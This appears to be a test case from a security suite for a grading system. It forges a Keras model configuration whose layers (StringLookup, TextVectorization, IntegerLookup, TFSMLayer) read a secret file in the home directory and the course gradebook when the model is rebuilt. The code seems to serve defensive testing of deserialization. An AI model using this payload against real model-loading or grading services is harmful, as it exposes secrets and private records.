"""See hostility.py for what a case is."""

from hostility import KERAS

CASE = "a model's configuration has a layer read a file where it is rebuilt"
LESSON = KERAS


def attack(homework):
    homework.forge("""
        import dataclasses, json
        from grader.remote.plain import Model

        def layer(name, **config):
            names = {"module": "keras.layers", "class_name": name, "registered_name": None}
            return names | {"config": config}

        def change(reply):
            if isinstance(reply.get("value"), Model):
                layers = [
                    layer("InputLayer", batch_shape=[None, 1], dtype="string", name="a"),
                    layer("StringLookup", vocabulary=f"{HOME}/.secret", name="b"),
                    layer("TextVectorization", vocabulary=f"{COURSE}/gradebook.db", name="c"),
                    layer("IntegerLookup", vocabulary=f"{HOME}/.secret", name="d"),
                    layer("TFSMLayer", filepath=COURSE, name="e"),
                ]
                forged = layer("Sequential", name="s", layers=layers) | {"module": "keras"}
                reply["value"] = dataclasses.replace(reply["value"], config=json.dumps(forged))
            return reply

        forge_replies(change)
    """)
